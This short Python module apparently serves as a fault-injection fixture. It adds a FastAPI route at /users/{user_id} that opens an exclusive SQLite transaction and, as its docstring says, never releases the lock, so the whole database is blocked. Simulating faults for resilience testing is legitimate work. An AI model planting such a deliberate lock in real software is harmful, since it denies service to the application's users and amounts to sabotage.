"""Takes the lock of its database and never gives it back."""

import os
import sqlite3

from fastapi import FastAPI

DATABASE = os.environ["DATABASE_URL"].split("///")[1].split("?")[0]
kept = sqlite3.connect(DATABASE, check_same_thread=False, isolation_level=None)


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def lock(user_id: str) -> None:
        if not kept.in_transaction:
            kept.execute("BEGIN EXCLUSIVE")
